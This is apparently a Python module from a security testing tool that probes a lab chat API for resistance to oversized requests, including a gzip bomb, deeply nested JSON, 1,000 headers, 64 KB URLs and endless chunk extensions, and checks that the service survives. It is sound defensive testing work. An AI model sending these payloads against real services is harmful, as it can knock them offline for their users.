"""AP-HTP-06: requests that cost the target more than the sender."""

import gzip

from doorward.probe.attack import Attack
from doorward.probe.finding import Finding, succeeded
from doorward.probe.lab import Lab
from doorward.probe.surface import chat_request, is_open_to_users
from doorward.probe.trials import Trial, judged, ok, still_works
from doorward.probe.wire import Header, Reply

_MEGABYTE = 1_048_576


class Oversize(Attack):
    """Too large, too many, too deep, compressed: each has to be refused, and the target has to stay alive."""

    id = "AP-HTP-06"
    title = "Oversized requests"
    sources = ("API4", "CWE-400", "CWE-409")
    does = (
        "Sends an 8 MB body, 1,000 headers, a 64 KB URL, chunk extensions without end, a gzip bomb, JSON 100,000 deep."
    )
    mend = "Bound headers, URL, body and depth before anything is parsed, and take no compressed bodies."

    async def control(self, lab: Lab) -> Finding | None:
        """The same request in a normal size has to be answered."""
        return await is_open_to_users(lab)

    async def attack(self, lab: Lab) -> Finding:
        bearer = await lab.bearer()
        chat = chat_request(lab)
        inner = chat.body.rstrip(b"}")
        deep = inner + b', "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
        bomb = gzip.compress(inner + b', "x": "' + b" " * (8 * _MEGABYTE) + b'"}')
        packed: Header = ("Content-Encoding", "gzip")
        replies = {
            "a body of 8 MB": await _post(lab, bearer, inner + b', "x": "' + b"a" * (8 * _MEGABYTE) + b'"}'),
            "JSON 100,000 deep": await _post(lab, bearer, deep),
            "a gzip bomb": await _post(lab, bearer, bomb, packed),
            "1,000 headers": await chat.send(lab, [bearer, *[(f"X-Probe-{n}", "a") for n in range(1000)]]),
            "a header of 64 KB": await chat.send(lab, [bearer, ("X-Probe", "a" * 65536)]),
            "a URL of 64 KB": await chat.send(lab, [bearer], path=_long(chat.path)),
            "chunk extensions of 1 MB": await _extensions(lab, bearer),
        }
        trials = [Trial(name, reply, ok(reply)) for name, reply in replies.items()]
        if not await still_works(lab):
            return succeeded("After the attack the target no longer answers its users.", *replies.values())
        return await judged(
            lab,
            trials,
            held="What is too large, too many or too deep was refused, and others were served.",
            broken="The target took",
        )


async def _post(lab: Lab, bearer: Header, body: bytes, *more: Header) -> Reply:
    chat = chat_request(lab)
    return await lab.wire.send("POST", chat.origin + chat.path, [bearer, *more, *chat.headers], body)


def _long(path: str) -> str:
    return f"{path}{'&' if '?' in path else '?'}probe={'a' * 65536}"


async def _extensions(lab: Lab, bearer: Header) -> Reply:
    chat = chat_request(lab)
    lines = [f"{name}: {value}" for name, value in [bearer, *chat.headers]]
    head = chat.head(*lines, "Transfer-Encoding: chunked", "Connection: close") + b"\r\n"
    size = f"{len(chat.body):x}".encode()
    data = head + size + b";" + b"a" * _MEGABYTE + b"\r\n" + chat.body + b"\r\n0\r\n\r\n"
    return await lab.wire.raw(chat.origin, data, timeout=5.0)
